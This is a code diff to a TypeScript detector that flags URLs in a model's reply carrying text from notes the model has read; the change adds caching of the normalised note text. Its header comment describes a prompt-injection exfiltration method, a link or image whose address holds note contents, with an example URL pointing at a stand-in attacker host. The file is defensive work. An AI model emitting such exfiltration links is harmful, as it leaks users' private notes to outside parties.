@@ -1,5 +1,5 @@
 /**
- * Whether a URL carries text from a note read this turn: the way a prompt-injected reply sends a
+ * Whether a URL carries text from a note the model had seen (notes-read.ts): the way a prompt-injected reply sends a
  * note out is a link (or an image) whose address holds the note's words, e.g.
  * `https://attacker.example/?d=hunter2-horse`. The URL is decoded the ways a server would read it
  * (percent-encoding, `+` as space) and compared with each note's text; a shared run of
@@ -20,7 +20,7 @@ export function notesInUrl(url: string, reads: readonly NoteRead[]): string[] {
 	const found: string[] = [];
 	for (const read of reads) {
 		if (found.includes(read.path)) continue;
-		const note = fold(read.text);
+		const note = foldedText(read);
 		for (let i = 0; i + LEAK_RUN <= carried.length; i++) {
 			if (note.includes(carried.slice(i, i + LEAK_RUN))) {
 				found.push(read.path);
@@ -29,6 +29,17 @@ export function notesInUrl(url: string, reads: readonly NoteRead[]): string[] {
 		}
 	}
 	return found;
+}
+
+/** A note's text folded once: the same reads (notes-read.ts keeps them) are checked for every link of every reply. */
+const folded = new WeakMap<NoteRead, string>();
+function foldedText(read: NoteRead): string {
+	let text = folded.get(read);
+	if (text === undefined) {
+		text = fold(read.text);
+		folded.set(read, text);
+	}
+	return text;
 }
 
 /** Everything in the URL but its scheme and registrable host, decoded. */
